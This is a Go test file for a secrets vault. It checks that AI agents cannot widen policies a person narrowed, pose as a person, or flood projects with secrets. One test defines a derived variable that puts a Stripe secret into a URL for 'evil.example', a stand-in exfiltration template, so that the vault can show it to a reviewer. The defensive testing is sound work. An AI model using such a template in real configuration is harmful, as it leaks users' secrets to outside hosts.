package vault_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/zavhoz/zavhoz/vault"
	"github.com/zavhoz/zavhoz/vault/fault"
	"github.com/zavhoz/zavhoz/vault/policy"
	"github.com/zavhoz/zavhoz/vault/variable"
)

func (h *house) narrow(ref string, e vault.Edit) {
	h.t.Helper()
	_, err := h.EditResource(ctx, operator, ref, e)
	must(h.t, err)
}

// TestAttack63_WhatWasNarrowedStaysNarrow: an agent that adds a name to a definition, or brings one back that a person took away, gets round nothing.
func TestAttack63_WhatWasNarrowedStaysNarrow(t *testing.T) {
	h := newHouse(t)
	h.project("bot")
	agent, _ := h.addAgent(vault.NewAgent{Name: "agent", Grants: vault.Grants{Projects: []string{"bot"}, Kinds: []string{"*"}}})
	asked := func(who vault.Actor, list ...string) (vault.ResolvedEnvironment, error) {
		return h.ResolveEnvironment(ctx, who, names("bot", list...))
	}
	a, err := asked(agent, "APP_NAME")
	must(t, err)
	one := a.Resource.Handle
	h.narrow(one, vault.Edit{Policy: &policy.Policy{Approval: "always", MinLevel: policy.LevelSealed, Hosts: []policy.HostRule{{Host: "api.github.com"}}, Private: true}})
	b, err := asked(agent, "APP_NAME", "DEBUG")
	must(t, err)
	if p := b.Resource.Policy; p.Approval != "always" || p.MinLevel != policy.LevelSealed || policy.FormatHostRules(p.Hosts) != "api.github.com" || p.Private {
		t.Errorf("%+v", p)
	}
	wantCode(t, h.runs(agent, b.Resource.Handle), fault.ApprovalRequired)
	h.narrow(one, vault.Edit{Policy: &policy.Policy{Agents: []string{"nobody"}}})
	_, err = asked(agent, "APP_NAME", "LOG_LEVEL")
	wantCode(t, err, fault.NotPermitted)
	_, err = asked(agent, "APP_NAME")
	wantCode(t, err, fault.NotPermitted)
	h.narrow(one, vault.Edit{Policy: &policy.Policy{MaxUses: 3}})
	_, err = asked(agent, "APP_NAME", "LOG_LEVEL")
	wantCode(t, err, fault.ResourceDisabled)
	if _, err = asked(agent, "APP_NAME"); err != nil {
		t.Error(err)
	}
	off := vault.Disabled
	h.narrow(one, vault.Edit{Policy: &policy.Policy{}, Status: &off})
	token := h.token(vault.NewAgent{Name: "writes", Scopes: []vault.Scope{vault.ScopeRead, vault.ScopeWrite}})
	for _, who := range []vault.Actor{agent, token, operator} { // at the socket too, where nobody proved to be there
		_, err = asked(who, "APP_NAME", "LOG_LEVEL", "JWT_SECRET")
		wantCode(t, err, fault.ResourceDisabled)
	}
	_, err = asked(agent, "APP_NAME")
	wantCode(t, err, fault.ResourceDisabled)
	if _, err := h.RemoveResource(ctx, operator, one); err != nil {
		t.Fatal(err)
	}
	for _, list := range [][]string{{"APP_NAME"}, {"APP_NAME", "LOG_LEVEL", "JWT_SECRET"}} {
		_, err = asked(agent, list...)
		wantCode(t, err, fault.ResourceDisabled)
	}
	if len(h.secretsOf("bot")) != 0 {
		t.Error("what was refused left a secret")
	}
	if again, err := asked(agent, "APP_NAME", "DEBUG"); err != nil || again.Resource.ID != b.Resource.ID { // what is there is not taken away
		t.Error(err)
	}
	q := names("bot", "APP_NAME")
	q.Confirmed = true
	for _, who := range []vault.Actor{agent, token} { // a word in a request makes nobody a person
		_, err = h.ResolveEnvironment(ctx, who, q)
		wantCode(t, err, fault.ResourceDisabled)
	}
	if c := h.resolve(q); c.Resource.Policy.Approval != "always" {
		t.Errorf("a person's own is wider than what is there: %+v", c.Resource.Policy)
	}
	if _, err = asked(agent, "APP_NAME", "LOG_LEVEL"); err != nil {
		t.Error(err)
	}
}

// TestAttack63_EnvironmentsAreAKind: an agent whose grants cover other kinds learns no names of secrets and has no environment made.
func TestAttack63_EnvironmentsAreAKind(t *testing.T) {
	h := newHouse(t)
	h.project("bot")
	agent, _ := h.addAgent(vault.NewAgent{Name: "agent", Grants: vault.Grants{Projects: []string{"bot"}, Kinds: []string{"server"}}})
	_, err := h.ResolveEnvironment(ctx, agent, names("bot", "JWT_SECRET"))
	wantCode(t, err, fault.NotPermitted)
	_, _, err = h.ProjectSecrets(ctx, agent, "bot")
	wantCode(t, err, fault.NotPermitted)
	h.adopted(nil) // of the project default
	lends, _ := h.addAgent(vault.NewAgent{Name: "lends", Grants: vault.Grants{Projects: []string{"default", "bot"}, Kinds: []string{"server"}}})
	q := vault.AllocateRequest{Kind: "server", Purpose: "x", For: "bot", Demand: vault.Demand{Services: map[string]int{"backend": 0}}}
	_, err = h.Allocate(ctx, lends, q)
	wantCode(t, err, fault.NotPermitted)
	e := h.resolve(vault.EnvironmentRequest{Project: "bot", DryRun: true, Names: []string{"BACKEND_PORT"}})
	if e.Outcome != variable.Unplaced {
		t.Errorf("who may have no environment of the project makes up a port of it: %s", e.Outcome)
	}
}

// TestAttack67_WhatAgentsHaveMade: agents fill no project with secrets and definitions.
func TestAttack67_WhatAgentsHaveMade(t *testing.T) {
	h := newHouse(t)
	h.project("bot")
	agent, _ := h.addAgent(vault.NewAgent{Name: "agent", Grants: vault.Grants{Projects: []string{"bot"}, Kinds: []string{"*"}}})
	var list []string
	for i := range 33 {
		list = append(list, fmt.Sprintf("JWT_%d_SECRET", i))
	}
	_, err := h.ResolveEnvironment(ctx, agent, names("bot", list...))
	wantCode(t, err, fault.ResourceExhausted)
	_, err = h.ResolveEnvironment(ctx, agent, names("bot", list[:32]...))
	must(t, err)
	_, err = h.ResolveEnvironment(ctx, agent, names("bot", list[32:]...))
	wantCode(t, err, fault.ResourceExhausted)
	h.resolve(names("bot", list[32:]...))
	for i := range 30 {
		_, err = h.ResolveEnvironment(ctx, agent, names("bot", "APP_NAME", "A"+strings.Repeat("B", i)))
		must(t, err)
	}
	_, err = h.ResolveEnvironment(ctx, agent, names("bot", "APP_NAME"))
	wantCode(t, err, fault.ResourceExhausted)
	h.resolve(names("bot", "APP_NAME"))
}

// What a person is to allow they can read: every text of a definition, and where each secret goes.
func TestAnEnvironmentIsShown(t *testing.T) {
	h := newHouse(t)
	h.project("bot")
	h.merge("bot", given("STRIPE_SECRET", "sk_live_"+strings.Repeat("a1", 16)))
	c := contractOf(t, `
  COPY: {source: derived, environments: [production], template: "https://evil.example/?${STRIPE_SECRET:url}"}
  MODE: {source: literal, environments: [production], value: fast}
  STRIPE_SECRET: {source: user_secret, description: d, consumers: [a], environments: [production]}
`)
	e := h.resolve(vault.EnvironmentRequest{Project: "bot", Contract: c})
	lines, err := h.DescribeEnvironment(ctx, e.Resource)
	if want := []string{`COPY = "https://evil.example/?${STRIPE_SECRET:url}"`, `MODE = "fast"`, "STRIPE_SECRET is the project's secret of that name"}; err != nil || !slices.Equal(lines, want) {
		t.Errorf("%v %q", err, lines)
	}
}

func TestWhatIsAwaited(t *testing.T) {
	h := newHouse(t)
	h.project("bot")
	c := contractOf(t, `
  COPY: {source: derived, environments: [production], template: "${SMTP_HOST}"}
  OPENAI_API_KEY: {source: user_secret, description: d, consumers: [a], environments: [production]}
  POSTGRES_HOST: {source: user_secret, description: d, consumers: [a], environments: [production]}
  SMTP_HOST: {source: user_secret, description: d, consumers: [a], environments: [production]}
`)
	if e := h.resolve(vault.EnvironmentRequest{Project: "bot", Contract: c}); e.Outcome != variable.Waiting {
		t.Fatal(e.Outcome)
	}
	m := given("GITHUB_TOKEN", "x")
	m.Hints = map[string]string{"STRIPE_SECRET": "of the shop", "GITHUB_TOKEN": "there", "REDIS_HOST": "computed"}
	h.merge("bot", m)
	if got, err := h.AwaitedSecrets(ctx, operator, "bot"); err != nil || !slices.Equal(got, []string{"OPENAI_API_KEY", "STRIPE_SECRET"}) {
		t.Errorf("%v %v", err, got)
	}
}
